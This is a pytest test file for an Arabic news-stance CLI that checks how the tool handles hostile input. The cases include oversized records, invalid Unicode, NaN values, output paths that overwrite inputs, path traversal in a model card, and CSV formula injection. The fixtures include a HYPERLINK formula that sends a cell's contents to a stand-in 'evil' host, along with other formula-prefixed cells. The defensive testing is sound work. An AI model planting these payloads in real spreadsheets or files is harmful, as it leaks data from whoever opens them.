"""Hostile input (issue 14): every case through the CLI, with its input made here. Each
gives one clear message (never a traceback), the documented exit code, and leaves the
other records, the inputs and the output files as they should be."""

from __future__ import annotations

import csv
import io
import json
import os
import random
import re
import shutil
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from stance.cli import main

REPO = Path(__file__).resolve().parents[1]
AR = "وقال الوزير إن الخطوة تاريخية. ووصل الوفد أمس.\n"


def _score(runner: CliRunner, model: Path, *args: str, **kw: Any) -> Any:
    res = runner.invoke(main, ["score", "--model", str(model), *args], **kw)
    assert "Traceback" not in res.output
    assert res.exception is None or isinstance(res.exception, SystemExit), res.exception
    return res


def _good(n: int, prefix: str = "g") -> list[str]:
    return [
        json.dumps({"id": f"{prefix}{i}", "text": "وصل الوفد أمس.", "n": i}, ensure_ascii=False)
        for i in range(n)
    ]


def _errors(stderr: str) -> list[str]:
    return [x for x in stderr.splitlines() if re.match(r"error: .*:\d+: ", x)]


def _strict(line: str) -> Any:
    """json.loads as a strict reader does it: no NaN or Infinity."""

    def refuse(name: str) -> Any:
        raise ValueError(f"non-standard JSON {name}")

    return json.loads(line, parse_constant=refuse)


# -- a huge or endless record (issue items 3 and 4) ---------------------------------------


def test_oversized_record_is_reported_skipped_and_counted(
    runner: CliRunner, tiny_model_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import stance.inputs

    monkeypatch.setattr(stance.inputs, "MAX_RECORD_BYTES", 1000)
    big = json.dumps({"id": "big", "text": "و" * 5000}, ensure_ascii=False)
    head = '{"id": "edge", "text": "'
    edge = head + "x" * (1000 - len(head) - 2) + '"}'  # exactly at the limit: read
    assert len(edge.encode()) == 1000
    lines = [*_good(2), big, edge, big + " " * 10**5, *_good(2, "h")]
    res = _score(runner, tiny_model_dir, "--jsonl", "-", input="\n".join(lines))
    assert res.exit_code == 1
    assert _errors(res.stderr) == [
        f"error: -:{n}: record over 1,000 bytes; split its text into smaller records"
        for n in (3, 5)
    ]
    assert "2 input(s) failed" in res.stderr
    assert [json.loads(x)["id"] for x in res.stdout.splitlines()] == [
        "g0",
        "g1",
        "edge",
        "h0",
        "h1",
    ]


def _stance_process(*args: str) -> subprocess.Popen:
    """`stance` in a child process that prints its peak memory (MiB) as its last line
    on stderr: VmHWM, which starts afresh at exec (ru_maxrss would count the parent)."""
    code = (
        "import atexit, re, sys\n"
        "def peak():\n"
        "    status = open('/proc/self/status').read()\n"
        "    print('peak-MiB', int(re.search(r'VmHWM:\\s*(\\d+)', status)[1]) // 1024, "
        "file=sys.stderr)\n"
        "atexit.register(peak)\n"
        "from stance.cli import main\n"
        "main()\n"
    )
    return subprocess.Popen(
        [sys.executable, "-c", code, *args],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=REPO,
    )


def test_huge_line_is_reported_at_the_limit_and_skipped_in_bounded_memory(
    tiny_model_dir: Path,
) -> None:
    if not os.path.exists("/proc/self/status"):
        pytest.skip("measures peak memory in /proc (Linux)")
    # 150 MB on one line, streamed through a pipe: the real 20 MB limit, no monkeypatch.
    # Reading the line whole would take at least its size; the error must come while
    # the line is still streaming (as for an endless input), and the next record is read.
    proc = _stance_process("score", "--model", str(tiny_model_dir), "--jsonl", "-")
    reported = threading.Event()

    def feed() -> None:
        block = b"a" * 2**20
        proc.stdin.write(b'{"id": "huge", "text": "')
        for i in range(150):
            if i == 60:  # 40 MB past the limit: the error must be out by now
                reported.wait(30)
            proc.stdin.write(block)
        proc.stdin.write(b'"}\r\n' + _good(1)[0].encode() + b"\n")
        proc.stdin.close()

    writer = threading.Thread(target=feed)
    writer.start()
    first = proc.stderr.readline().decode()
    reported.set()
    assert first == "error: -:1: record over 20 MB; split its text into smaller records\n"
    out = proc.stdout.read().decode()
    rest = proc.stderr.read().decode()
    writer.join()
    assert proc.wait(30) == 1
    assert [json.loads(x)["id"] for x in out.splitlines()] == ["g0"]
    peak = int(rest.strip().splitlines()[-1].split()[1])
    assert peak < 150, f"peak memory {peak} MiB"


def test_endless_binary_input_is_refused(tiny_model_dir: Path) -> None:
    if not os.path.exists("/dev/zero"):
        pytest.skip("no /dev/zero here")
    proc = _stance_process("score", "--model", str(tiny_model_dir), "--jsonl", "/dev/zero")
    try:
        out, err = proc.communicate(timeout=60)
    finally:
        proc.kill()
    assert proc.returncode == 1
    assert err.decode().splitlines()[0] == (
        "error: /dev/zero: a binary file (it has NUL bytes), not JSON Lines; give the "
        "records as UTF-8 text"
    )
    assert out == b""


# -- line ends and byte-order marks -------------------------------------------------------


def test_cr_line_ends_and_a_bom_on_a_later_line_are_read(
    runner: CliRunner, tiny_model_dir: Path, tmp_path: Path
) -> None:
    a, b = _good(3, "a"), _good(3, "b")
    bom = b"\xef\xbb\xbf"
    one = bom + "\r".join(a).encode() + b"\r"  # classic Mac line ends
    two = bom + "\r\n".join(b).encode() + b"\r\n"
    f = tmp_path / "cat.jsonl"
    f.write_bytes(one + two + bom + b"\n" + "\n".join(_good(1, "c")).encode())  # `cat`
    res = _score(runner, tiny_model_dir, "--jsonl", str(f))
    assert res.exit_code == 0, res.output
    assert [json.loads(x)["id"] for x in res.stdout.splitlines()] == [
        "a0", "a1", "a2", "b0", "b1", "b2", "c0",
    ]  # fmt: skip
    # line numbers count CR, LF and CRLF line ends alike
    f.write_bytes(b"\r".join([a[0].encode(), b"oops", b"", b"x\r\ny", a[1].encode()]))
    res = _score(runner, tiny_model_dir, "--jsonl", str(f))
    assert [x.split(": ", 2)[1] for x in _errors(res.stderr)] == [f"{f}:{n}" for n in (2, 4, 5)]


def test_line_splitting_is_the_same_from_any_offset() -> None:
    # The Dask engine reads a partition from the byte before it; the local command from
    # the start. Both must see the same lines, at the same offsets, for every cut.
    import stance.inputs as inputs

    def reference(data: bytes, limit: int) -> list[tuple[int, bytes | None]]:
        out = []
        for m in re.finditer(rb"([^\r\n]*)(\r\n|\r|\n|$)", data):
            if m.start() == len(data):
                break
            out.append((m.start(), None if len(m.group(1)) > limit else m.group(1)))
        return out

    rng = random.Random(5)
    for _ in range(700):
        data = bytes(rng.choice(b"ab\r\n") for _ in range(rng.randint(0, 30)))
        limit = rng.randint(0, 5)
        want = reference(data, limit)
        for chunk in (1, 2, 3, 7, 64):
            with pytest.MonkeyPatch.context() as mp:
                mp.setattr(inputs, "_READ_CHUNK", chunk)
                assert list(inputs.iter_lines(io.BytesIO(data), limit)) == want
                for start in range(1, len(data)):
                    fh = io.BytesIO(data)
                    fh.seek(start - 1)
                    got = list(inputs.iter_lines(fh, limit, offset=start - 1))[1:]
                    assert got == [w for w in want if w[0] >= start], (data, start)


# -- long texts ---------------------------------------------------------------------------


def test_long_texts_make_smaller_batches(
    runner: CliRunner, tiny_model_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # 512 records of up to 20 MB each would be 10 GB in one batch: a batch also ends
    # when its texts reach BATCH_CHARS.
    import stance.batch

    sizes: list[int] = []
    real = stance.batch.score_records

    def spy(model: Any, records: Any, keep_text: bool = False) -> Any:
        sizes.append(len(records))
        return real(model, records, keep_text)

    monkeypatch.setattr(stance.batch, "score_records", spy)
    monkeypatch.setattr(stance.batch, "BATCH_CHARS", 250)
    lines = [json.dumps({"id": i, "text": "و" * 100}, ensure_ascii=False) for i in range(7)]
    res = _score(runner, tiny_model_dir, "--jsonl", "-", input="\n".join(lines))
    assert res.exit_code == 0, res.output
    assert sizes == [3, 3, 1]
    assert [json.loads(x)["id"] for x in res.stdout.splitlines()] == list(range(7))


# -- a lone surrogate (issue item 1) ------------------------------------------------------


@pytest.mark.parametrize(
    ("bad", "field"),
    [
        ('{"id": "s", "text": "نص", "t": "\\ud83d"}', '"t"'),
        ('{"id": "\\udc00", "text": "نص"}', '"id"'),
        ('{"id": "s", "text": "نص \\ud83d"}', '"text"'),
        ('{"id": "s", "text": "نص", "deep": {"a": ["x", "\\ude00"]}}', '"deep"'),
    ],
)
def test_lone_surrogate_is_reported_and_every_other_record_written(
    runner: CliRunner, tiny_model_dir: Path, tmp_path: Path, bad: str, field: str
) -> None:
    good = _good(600)
    # a valid pair (an emoji written as two escapes) is not a lone surrogate
    pair = '{"id": "pair", "text": "نص \\ud83d\\ude00"}'
    stdin = "\n".join([*good, bad, pair]) + "\n"
    escape = re.search(r"\\u[dD][89a-fA-F]..", bad).group().lower()
    for extra in ([], ["--keep-text"]):
        res = _score(runner, tiny_model_dir, "--jsonl", *extra, "-", input=stdin)
        assert res.exit_code == 1
        assert _errors(res.stderr) == [
            f"error: -:601: {field} holds a lone surrogate {escape} (half of an emoji or "
            "other UTF-16 pair), which is not valid Unicode; repair the record"
        ]
        ids = [json.loads(x)["id"] for x in res.stdout.splitlines()]
        assert ids == [f"g{i}" for i in range(600)] + ["pair"]
    out = tmp_path / "out.jsonl"
    res = _score(runner, tiny_model_dir, "--jsonl", "-", "-o", str(out), input=stdin)
    assert res.exit_code == 1
    assert len(out.read_text(encoding="utf-8").splitlines()) == 601


# -- NaN and Infinity ---------------------------------------------------------------------


def test_nan_and_infinity_are_refused_not_written_back(
    runner: CliRunner, tiny_model_dir: Path
) -> None:
    bad = [
        '{"id": "a", "text": "نص", "score": NaN}',
        '{"id": "b", "text": "نص", "score": Infinity}',
        '{"id": "c", "text": "نص", "meta": {"x": [-Infinity]}}',
        '{"id": "d", "text": "نص", "score": 1e999}',
        '{"id": "e", "text": "نص", "n": ' + "7" * 5000 + "}",
        '{"id": "f", "text": "نص", "n": ' + "[" * 100_000 + "]" * 100_000 + "}",
    ]
    stdin = "\n".join([_good(1)[0], *bad, '{"id": "z", "text": "نص", "score": -1.5e300}']) + "\n"
    res = _score(runner, tiny_model_dir, "--jsonl", "-", input=stdin)
    assert res.exit_code == 1
    assert _errors(res.stderr) == [
        "error: -:2: invalid JSON (NaN is not a JSON value; write null or a string)",
        "error: -:3: invalid JSON (Infinity is not a JSON value; write null or a string)",
        "error: -:4: invalid JSON (-Infinity is not a JSON value; write null or a string)",
        "error: -:5: invalid JSON (1e999 is out of range for a number; write it as a string)",
        "error: -:6: invalid JSON (Exceeds the limit (4300 digits) for integer string conversion)",
        "error: -:7: invalid JSON (nested too deeply)",
    ]
    out = [_strict(x) for x in res.stdout.splitlines()]  # every line is standard JSON
    assert [(o["id"], o.get("score")) for o in out] == [("g0", None), ("z", -1.5e300)]


# -- -o onto an input (issue item 2) ------------------------------------------------------


@pytest.mark.parametrize("how", ["same", "symlink", "hardlink"])
def test_output_onto_an_input_is_refused(
    runner: CliRunner, tiny_model_dir: Path, tmp_path: Path, how: str
) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "scored").mkdir()
    (tmp_path / "links").mkdir()
    inp = tmp_path / "in" / "x.jsonl"
    inp.write_bytes(("\n".join([*_good(3), "not json"]) + "\n").encode("utf-8"))
    article = tmp_path / "in" / "a.txt"
    article.write_text(AR, encoding="utf-8")
    scored = tmp_path / "scored" / "scored.jsonl"
    res = _score(runner, tiny_model_dir, "--format", "json", str(article), "-o", str(scored))
    assert res.exit_code == 0, res.output
    model = ["--model", str(tiny_model_dir)]
    cases = [
        (["score", *model, "--jsonl", str(inp)], inp),
        (["score", *model, str(article)], article),
        (["score", *model, "--jsonl", str(inp.parent)], inp),  # a directory of inputs
        (["sources", "--format", "csv", str(scored)], scored),
        (["sources", str(scored.parent)], scored),
        (["annotate", *model, "--source", "s", str(article)], article),
    ]
    for args, target in cases:
        before = target.read_bytes()
        output = target
        if how != "same":
            output = tmp_path / "links" / target.name
            (os.symlink if how == "symlink" else os.link)(target, output)
        res = runner.invoke(main, [*args, "-o", str(output)])
        assert res.exit_code == 2, (args, res.output)
        assert f"-o {output} is the input {target}" in res.stderr
        assert "writing it would destroy the input" in res.stderr
        assert ("(the same file)" in res.stderr) == (how != "same")
        assert target.read_bytes() == before
        if how != "same":
            output.unlink()


def test_output_file_name_not_utf8_is_no_crash(
    runner: CliRunner, tiny_model_dir: Path, tmp_path: Path
) -> None:
    name = os.fsdecode(os.fsencode(str(tmp_path)) + b"/a\xff.txt")
    try:
        Path(name).write_text(AR, encoding="utf-8")
    except (OSError, UnicodeError):
        pytest.skip("this filesystem refuses file names that are not UTF-8")
    out = tmp_path / "out.jsonl"
    res = _score(runner, tiny_model_dir, "--format", "json", name, "-o", str(out))
    assert res.exit_code == 0, res.output
    assert json.loads(out.read_text(encoding="utf-8"))["source"].endswith("a?.txt")


# -- -o keeps permissions, writes through links -------------------------------------------


def test_output_keeps_mode_and_writes_through_a_symlink(
    runner: CliRunner, tiny_model_dir: Path, tmp_path: Path
) -> None:
    article = tmp_path / "a.txt"
    article.write_text(AR, encoding="utf-8")
    private = tmp_path / "private.jsonl"
    private.write_text("old\n")
    private.chmod(0o600)
    res = _score(runner, tiny_model_dir, "--format", "json", str(article), "-o", str(private))
    assert res.exit_code == 0, res.output
    assert json.loads(private.read_text("utf-8"))["sentences"]
    assert private.stat().st_mode & 0o777 == 0o600

    real = tmp_path / "reports" / "sources.csv"
    real.parent.mkdir()
    real.write_text("old\n")
    real.chmod(0o640)
    link = tmp_path / "latest.csv"
    link.symlink_to(Path("reports") / "sources.csv")  # relative, as links usually are
    res = runner.invoke(main, ["sources", "--format", "csv", str(private), "-o", str(link)])
    assert res.exit_code == 0, res.output
    assert link.is_symlink() and os.readlink(link) == str(Path("reports") / "sources.csv")
    assert real.read_text("utf-8").startswith("source,n_articles")
    assert real.stat().st_mode & 0o777 == 0o640
    assert sorted(p.name for p in real.parent.iterdir()) == ["sources.csv"]  # no temp left
    # a dangling link: its target is created
    dangling = tmp_path / "new.csv"
    dangling.symlink_to(real.parent / "new.csv")
    res = runner.invoke(main, ["sources", "--format", "csv", str(private), "-o", str(dangling)])
    assert res.exit_code == 0, res.output
    assert dangling.is_symlink() and (real.parent / "new.csv").stat().st_mode & 0o777 == 0o644
    # an output that cannot be written is one line, not a traceback
    res = runner.invoke(main, ["sources", str(private), "-o", str(private / "x.csv")])
    assert res.exit_code == 1 and res.stderr.startswith(f"Error: cannot write {private / 'x.csv'}")


# -- CSV formula injection (issue item 5) -------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
# A CR inside a cell ends the row for most readers (Python's csv module too), so the rest
# would start a new row with a formula; written as LF, the cell is quoted and stays one.
INSIDE = "outlet\r=HYPERLINK(1)"


def _cells_are_safe(rows: list[list[str]]) -> None:
    for cell in (c for r in rows for c in r):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), cell


def test_sources_csv_neutralizes_formulas(
    runner: CliRunner, tiny_model_dir: Path, tmp_path: Path
) -> None:
    article = tmp_path / "a.txt"
    article.write_text("الكيان الصهيوني يتمدد. يعتدي الكيان الصهيوني.\n", encoding="utf-8")
    scored = tmp_path / "scored.jsonl"
    with open(scored, "w", encoding="utf-8") as fh:
        for name in [*HOSTILE, INSIDE, "Al-Waqt"]:
            res = _score(runner, tiny_model_dir, "--format", "json", "--source", name, str(article))
            assert res.exit_code == 0, res.output
            fh.write(res.stdout)
    res = runner.invoke(main, ["sources", "--format", "csv", str(scored)])
    assert res.exit_code == 0, res.output
    rows = list(csv.reader(io.StringIO(res.stdout, newline="")))
    # (outlet names are stripped of spaces: "\t=1" and "\r=1" are the one outlet "=1")
    want = {"Al-Waqt", "outlet\n=HYPERLINK(1)", *("'" + h.strip() for h in HOSTILE)}
    assert sorted(r[0] for r in rows[1:]) == sorted(want)
    lean = rows[0].index("lean_mean")
    for row in rows[1:]:
        assert float(row[lean]) < 0  # numbers stay numbers: a negative lean is not quoted
    _cells_are_safe(rows)


def test_terms_discover_csv_neutralizes_formulas(
    runner: CliRunner, tiny_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Discovered n-grams start with a letter today; the CSV must not rely on it.
    import stance.discover
    from stance.discover import DiscoveredTerm

    def hostile(*a: Any, **k: Any) -> dict[str, list[DiscoveredTerm]]:
        terms = [*HOSTILE, INSIDE]
        return {"pro": [DiscoveredTerm("pro", h, 1, 3, 0, 1.5, -2.0, False) for h in terms]}

    monkeypatch.setattr(stance.discover, "discover_terms", hostile)
    args = ["terms", "discover", "--annotations", str(tiny_dir), "--format", "csv"]
    res = runner.invoke(main, args)
    assert res.exit_code == 0, res.output
    rows = list(csv.reader(io.StringIO(res.stdout, newline="")))
    assert [r[1] for r in rows[1:]] == [
        *("'" + h.replace("\r", "\n") for h in HOSTILE),
        "outlet\n=HYPERLINK(1)",
    ]
    assert [r[6] for r in rows[1:]] == ["-2.0"] * (len(HOSTILE) + 1)
    _cells_are_safe(rows)


# -- card.json names files beside it ------------------------------------------------------


@pytest.mark.parametrize("key", ["model_file", "scoring_file"])
@pytest.mark.parametrize("where", ["parent", "absolute"])
def test_card_file_names_are_confined_to_the_model_directory(
    runner: CliRunner, tiny_model_dir: Path, tmp_path: Path, key: str, where: str
) -> None:
    model = tmp_path / "models" / "m"
    shutil.copytree(tiny_model_dir, model)
    card = json.loads((model / "card.json").read_text("utf-8"))
    # A valid copy outside: only the confinement stands between the card and it.
    outside = tmp_path / "models" / card[key]
    shutil.copy(model / card[key], outside)
    card[key] = f"../{outside.name}" if where == "parent" else str(outside)
    (model / "card.json").write_text(json.dumps(card), encoding="utf-8")
    article = tmp_path / "a.txt"
    article.write_text(AR, encoding="utf-8")
    for args in (["score", "--model", str(model), str(article)], ["info", "--model", str(model)]):
        res = runner.invoke(main, args)
        assert res.exit_code == 1, (args, res.output)
        assert f"{key} {json.dumps(card[key])} is not a file name inside {model}" in res.stderr
        assert len(res.stderr.strip().splitlines()) == 1 and "Traceback" not in res.output


def test_card_that_is_not_an_object_is_refused(runner: CliRunner, tmp_path: Path) -> None:
    for content in ("5", "[1]", '"card"'):
        (tmp_path / "card.json").write_text(content)
        res = runner.invoke(main, ["info", "--model", str(tmp_path)])
        assert res.exit_code == 1 and "lacks an object" in res.stderr, res.output


# -- --jobs -------------------------------------------------------------------------------


def test_jobs_is_capped_at_the_cpu_count(
    runner: CliRunner, tiny_model_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import stance.batch
    import stance.cli

    used: list[int] = []
    real = stance.batch.score_batches

    def spy(model: Any, batches: Any, keep_text: bool, jobs: int, *a: Any) -> Any:
        used.append(jobs)
        return real(model, batches, keep_text, jobs, *a)

    monkeypatch.setattr(stance.batch, "score_batches", spy)
    monkeypatch.setattr(stance.cli, "_cpu_count", lambda: 1)
    stdin = "\n".join(_good(3)) + "\n"
    res = _score(runner, tiny_model_dir, "--jsonl", "--jobs", "100000", "-", input=stdin)
    assert res.exit_code == 0, res.output
    assert used == [1]
    assert res.stderr == "warning: --jobs 100000 is more than the 1 CPU(s) here; using 1\n"
    assert len(res.stdout.splitlines()) == 3
    res = _score(runner, tiny_model_dir, "--jsonl", "-q", "--jobs", "7", "-", input=stdin)
    assert res.exit_code == 0 and res.stderr == "" and used == [1, 1]


# -- a combining mark between the words of a term -----------------------------------------


@pytest.mark.parametrize("mark", ["\u0301", "\u0300", "\u20dd", "\u034f", "\ufe0f", "\u08f0"])
def test_combining_mark_between_words_does_not_split_a_term(
    runner: CliRunner, tiny_model_dir: Path, mark: str
) -> None:
    text = f"وقال إن الكيان{mark} الصهيوني يتمدد وإن الكيان {mark}الصهيوني باق"
    res = runner.invoke(main, ["terms", "check", "--format", "json", text])
    assert res.exit_code == 0, res.output
    matches = json.loads(res.stdout)
    assert [m["term"] for m in matches] == ["الكيان الصهيوني"] * 2
    for m in matches:
        assert text[m["start"] : m["end"]] == m["match"]  # offsets into the original text
    assert mark in matches[0]["match"] and mark in matches[1]["match"]
    rec = json.dumps({"id": 1, "text": text}, ensure_ascii=False)
    res = _score(runner, tiny_model_dir, "--jsonl", "-", input=rec)
    assert json.loads(res.stdout)["loaded_terms"] == matches


def test_every_combining_mark_is_in_the_scanned_blocks() -> None:
    import unicodedata

    from stance.normalize import _MARKS, normalize

    everywhere = {
        chr(c)
        for c in [*range(0x0300, 0x10000), *range(0xE0100, 0xE01F0)]
        if unicodedata.category(chr(c)) in ("Mn", "Me")
    }
    assert everywhere <= _MARKS | {c for c in everywhere if normalize(c) == ""}
    assert normalize("a\u0301b") == "ab"


# -- messages -----------------------------------------------------------------------------


def test_train_out_onto_a_file_says_it_is_a_file(
    runner: CliRunner, tiny_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import stance.train

    def no_training(*a: Any, **k: Any) -> Any:
        raise AssertionError("trained before checking --out")

    monkeypatch.setattr(stance.train, "train_model", no_training)
    f = tmp_path / "model.txt"
    f.write_text("keep me")
    res = runner.invoke(main, ["train", "--annotations", str(tiny_dir), "--out", str(f)])
    assert res.exit_code == 2
    assert "is a file" in res.stderr and "File exists" not in res.stderr
    assert f.read_text() == "keep me"


def test_dask_glob_matching_only_the_output_says_why(
    runner: CliRunner, tiny_model_dir: Path, tmp_path: Path
) -> None:
    pytest.importorskip("dask")
    out = tmp_path / "archive" / "scored"
    out.mkdir(parents=True)
    (out / "part-00000.jsonl").write_text(_good(1)[0] + "\n", encoding="utf-8")
    for pattern in (str(tmp_path / "archive" / "**" / "*.jsonl"), str(tmp_path / "archive")):
        res = _score(
            runner, tiny_model_dir, "--jsonl", pattern, "--engine", "dask", "--out-dir", str(out)
        )
        assert res.exit_code == 1
        assert res.stderr == (
            f"Error: {pattern}: its only files (1) are inside the output directory {out}, "
            "whose files are never read as input; name the input files, or write --out-dir "
            "elsewhere\n"
        )
    res = _score(runner, tiny_model_dir, "--jsonl", str(tmp_path / "*.x"), "--engine", "dask",
                 "--out-dir", str(out))  # fmt: skip
    assert res.exit_code == 1 and "no files match this pattern" in res.stderr


# -- every bad-record kind at once: local, --jobs 2 and Dask agree ------------------------


def _every_bad_kind(path: Path) -> None:
    """Good records around every kind of bad record, with CR, LF and CRLF line ends, a
    second BOM where two files were concatenated, and blank lines."""
    rng = random.Random(14)
    texts = ["وصل الوفد أمس.", "الكيان الصهيوني يتمدد.", "<p>وقال الوزير</p><p>إنها خطوة</p><br>"]
    good = [
        json.dumps({"id": f"r{i}", "text": rng.choice(texts), "src": i % 3}, ensure_ascii=False)
        for i in range(90)
    ]
    bad = [
        '{"id": "sur1", "text": "نص", "t": "\\ud83d"}',
        '{"id": "sur2", "text": "نص \\udfff"}',
        '{"id": "nan", "text": "نص", "x": NaN}',
        '{"id": "inf", "text": "نص", "x": [Infinity, -Infinity]}',
        '{"id": "big", "text": "نص", "x": 1E400}',
        '{"id": "huge", "text": "' + "ن" * 3000 + '"}',
        '{"id": "broken", "text": ',
        '["not", "an", "object"]',
        '{"id": "notext"}',
        "\xa0",
    ]
    lines = good[:]
    for i, b in enumerate(bad):
        lines.insert(5 + 8 * i, b)
    data = b""
    for i, line in enumerate(lines):
        data += line.encode("utf-8") + [b"\n", b"\r", b"\r\n", b"\n\n"][i % 4]
        if i == 40:
            data += b"\xef\xbb\xbf"  # a second file, with its BOM, starts here
    path.write_bytes(b"\xef\xbb\xbf" + data)


def test_every_bad_record_kind_same_output_local_jobs_and_dask(
    runner: CliRunner,
    tiny_model_dir: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    cluster: Any,
) -> None:
    import stance.inputs
    from stance.cli.archive import run_dask as run_cli

    monkeypatch.setattr(stance.inputs, "MAX_RECORD_BYTES", 2000)
    src = tmp_path / "in" / "bad.jsonl"
    src.parent.mkdir()
    _every_bad_kind(src)
    local = _score(runner, tiny_model_dir, "--jsonl", str(src))
    assert local.exit_code == 1
    errors = _errors(local.stderr)
    assert len(errors) == 10
    assert "record over 2,000 bytes" in errors[5] and "lone surrogate \\udfff" in errors[1]
    records = [_strict(x) for x in local.stdout.splitlines()]  # standard JSON, UTF-8
    assert [r["id"] for r in records] == [f"r{i}" for i in range(90)]
    local.stdout.encode("utf-8")

    jobs = _score(runner, tiny_model_dir, "--jsonl", "--jobs", "2", str(src))
    assert (jobs.exit_code, jobs.stdout, _errors(jobs.stderr)) == (1, local.stdout, errors)

    dask_args = ["--engine", "dask", "--scheduler", cluster.scheduler_address]
    out = tmp_path / "out"
    res = _score(runner, tiny_model_dir, "--jsonl", str(src), *dask_args, "--out-dir", str(out))
    assert res.exit_code == 1, res.output
    assert _errors(res.stderr) == errors

    def shards(directory: Path) -> str:
        return b"".join(p.read_bytes() for p in sorted(directory.glob("part-*.jsonl"))).decode()

    assert shards(out) == local.stdout
    # and with partitions cut between the CR and LF of a line end, at the second BOM, and
    # (several times) inside the oversized record
    data = src.read_bytes()
    for size in (data.index(b"\r\n") + 1, data.index(b"\xef\xbb\xbf", 1)):
        part = tmp_path / f"out{size}"
        code = run_cli(
            [str(src)],
            part,
            scheduler=cluster.scheduler_address,
            model_path=tiny_model_dir,
            partition_bytes=size,
            quiet=True,
        )
        assert code == 1
        assert shards(part) == local.stdout
        got = [json.loads(x) for x in (part / "errors.jsonl").read_text("utf-8").splitlines()]
        assert [f"error: {e['file']}:{e['line']}: {e['error']}" for e in got] == errors
